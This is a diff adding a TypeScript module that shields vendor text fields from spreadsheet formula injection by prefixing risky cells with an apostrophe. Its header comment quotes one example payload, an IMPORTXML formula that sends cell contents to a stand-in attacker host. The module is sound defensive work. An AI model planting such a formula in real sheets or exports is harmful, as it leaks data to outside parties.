@@ -0,0 +1,61 @@
+/**
+ * @module utils/sanitize
+ * @description Formula-injection protection for free-text vendor fields.
+ *
+ * Spreadsheet apps evaluate a cell that starts with `=`, `+`, `-` or `@` as a
+ * formula, so a company name of `=IMPORTXML("https://evil.example/?"&A2, "//a")`
+ * would run in the shared sheet, or in Excel when a CSV export is opened. The
+ * policy is the one OWASP recommends: prefix such text with an apostrophe.
+ *
+ * - Google Sheets consumes the apostrophe on `USER_ENTERED` writes and stores
+ *   the text literally (see `services/sheetColumns`)
+ * - CSV exports keep it, so the text is shown rather than evaluated
+ * - {@link unescapeFormula} removes it again when such text is read back
+ *
+ * Only text is escaped; numbers and dates keep their types.
+ *
+ * @example
+ * ```ts
+ * escapeFormula('=1+1');       // "'=1+1"
+ * escapeFormula('Acme');       // 'Acme'
+ * unescapeFormula("'=1+1");    // '=1+1'
+ * ```
+ */
+
+/** Leading characters that make a cell a formula (tab and CR are accepted by Excel) */
+const FORMULA_TRIGGERS: readonly string[] = ['=', '+', '-', '@', '\t', '\r'];
+
+/** The prefix that marks a cell as literal text */
+const TEXT_PREFIX = "'";
+
+/**
+ * Whether text would be evaluated as a formula by a spreadsheet app.
+ *
+ * @param text - Cell text
+ */
+export function isFormulaLike(text: string): boolean {
+  return text.length > 0 && FORMULA_TRIGGERS.includes(text[0]);
+}
+
+/**
+ * Escapes text that would be evaluated as a formula.
+ *
+ * @param text - Free text from a vendor field
+ * @returns The text, prefixed with an apostrophe when it starts a formula
+ */
+export function escapeFormula(text: string): string {
+  return isFormulaLike(text) ? `${TEXT_PREFIX}${text}` : text;
+}
+
+/**
+ * Reverses {@link escapeFormula}, for text read from a sheet or CSV file that
+ * kept the apostrophe (e.g. written with `RAW` or exported to CSV).
+ *
+ * @param text - Cell text
+ * @returns The original text
+ */
+export function unescapeFormula(text: string): string {
+  return text.startsWith(TEXT_PREFIX) && isFormulaLike(text.slice(TEXT_PREFIX.length))
+    ? text.slice(TEXT_PREFIX.length)
+    : text;
+}